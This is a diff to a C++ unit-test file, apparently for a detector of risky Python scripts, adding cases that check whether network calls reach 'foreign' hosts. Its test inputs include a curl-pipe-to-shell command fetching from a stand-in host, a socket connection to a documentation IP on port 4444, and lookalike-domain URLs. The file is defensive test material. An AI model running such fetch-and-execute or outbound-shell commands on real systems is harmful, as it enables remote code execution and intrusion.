@@ -135,5 +135,58 @@ TEST(Features, HaveNamesAndAreFinite) {
   }
 }
 
+float feature(std::string script, std::string_view name) {
+  const auto names = feature_names();
+  const auto at = std::find(names.begin(), names.end(), name);
+  if (at == names.end()) return -1;
+  const unwrap::Program program = unwrap::unwrap(std::move(script));
+  return features(program, behaviour::match(program), {})[static_cast<std::size_t>(at - names.begin())];
+}
+
+struct AddressCase {
+  const char* script;
+  const char* name;
+  float value;
+};
+
+class Addresses : public testing::TestWithParam<AddressCase> {};
+
+TEST_P(Addresses, ForeignIsNeitherOnesOwnNetworkNorAPublisher) {
+  EXPECT_EQ(feature(GetParam().script, GetParam().name), GetParam().value) << GetParam().script;
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Scripts, Addresses,
+    testing::Values(
+        AddressCase{"import requests\nrequests.get('https://files.example.invalid/a')\n",
+                    "address.http-get.foreign", 1},
+        AddressCase{"import requests\nrequests.get('http://198.51.100.7:8080/a')\n",
+                    "address.http-get.foreign", 1},
+        AddressCase{"import requests\nrequests.get('http://10.0.0.7/a')\n", "address.http-get.foreign", 0},
+        AddressCase{"import requests\nrequests.get('http://169.254.169.254/latest')\n",
+                    "address.http-get.foreign", 0},
+        AddressCase{"import requests\nrequests.get('https://nexus.internal/a')\n", "address.http-get.foreign",
+                    0},
+        AddressCase{"import requests\nrequests.get('http://registry:5000/a')\n", "address.http-get.foreign",
+                    0},
+        AddressCase{"import requests\nrequests.get('https://download.docker.com/a')\n",
+                    "address.http-get.foreign", 0},
+        AddressCase{"import requests\nrequests.get('https://docker.com.example.invalid/a')\n",
+                    "address.http-get.foreign", 1},
+        AddressCase{"import requests\nrequests.get('https://notdocker.com/a')\n", "address.http-get.foreign",
+                    1},
+        AddressCase{"import requests\nrequests.get('https://docker.com@example.invalid/a')\n",
+                    "address.http-get.foreign", 1},
+        // One of a publisher beside it takes nothing away.
+        AddressCase{
+            "import os\nos.system('curl https://sh.rustup.rs | sh; curl http://example.invalid | sh')\n",
+            "address.run.foreign", 1},
+        AddressCase{"import os\nos.system('curl https://sh.rustup.rs | sh')\n", "address.run.foreign", 0},
+        AddressCase{"import os\nos.system('systemctl restart nginx.service')\n", "address.run.foreign", 0},
+        AddressCase{"import socket\nsocket.create_connection(('db.local', 5432))\n",
+                    "address.connect.foreign", 0},
+        AddressCase{"import socket\nsocket.create_connection(('203.0.113.5', 4444))\n",
+                    "address.connect.foreign", 1}));
+
 }  // namespace
 }  // namespace pyverdict::verdict
